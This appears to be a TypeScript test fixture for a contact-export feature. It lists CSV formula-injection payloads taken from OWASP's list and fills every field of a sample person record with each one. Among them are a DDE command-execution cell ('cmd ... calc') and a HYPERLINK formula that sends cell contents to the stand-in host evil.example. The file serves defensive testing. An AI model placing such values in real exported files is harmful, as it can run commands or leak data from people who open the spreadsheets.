// Cells that a spreadsheet would take for formulas, and somebody who has one in every field.
import {existsSync} from 'node:fs';
import {join} from 'node:path';
import type {Person} from '@/lib/exchange/out/person';

/** The payloads of the OWASP list of CSV injection and what goes round them, modelled for this test. */
export const formulas = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://evil.example/?"&A1,"x")',
	' =1+1',
	'"=1+1"',
	"'=1+1",
	"''=1+1",
	';=1+1',
	'a;=1+1',
	'a\n=1+1',
	'a;\t"=1+1',
	'a|-1',
	'＝1+1',
	'＋1',
	'－1',
	'＠A1',
	'=1+1,"","=2+2"',
	'\t',
	'\r\n',
	';'.repeat(50),
	'"'.repeat(51),
];

const corpus = join(import.meta.dirname, '../../../shared/data/payloads.mjs');

/** Those of the corpus beside this project. */
export const shared: string[] = existsSync(corpus)
	? ((await import(/* @vite-ignore */ corpus)) as {strings: {csvFormula: string[]}}).strings.csvFormula
	: [];
if (shared.length === 0)
	console.warn('SKIPPED: the shared payloads are not beside this project (../shared): our own are tried alone.');

export const nobody: Person = {
	kind: 'person',
	name: 'Ada Holm',
	title: null,
	company: null,
	companyDomain: null,
	location: null,
	emails: [],
	phones: [],
	websites: [],
	profileUrls: [],
	tags: [],
	notes: [],
};
export const everywhere = (payload: string): Person => ({
	...nobody,
	name: payload,
	title: payload,
	location: payload,
	tags: [payload],
	notes: [`Hello ${payload}`, payload],
});
